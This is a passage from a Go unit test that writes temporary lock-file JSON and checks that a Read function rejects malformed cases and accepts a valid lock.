			file := filepath.Join(t.TempDir(), "x.lock.json")
			if err := os.WriteFile(file, []byte(tc.data), 0o644); err != nil {
				t.Fatal(err)
			}
			if _, err := Read(file); err == nil {
				t.Error("read; want an error")
			}
		})
	}
	file := filepath.Join(t.TempDir(), "x.lock.json")
	if err := os.WriteFile(file, []byte(lock), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Read(file); err != nil {
		t.Errorf("the lock itself: %v", err)
	}
}
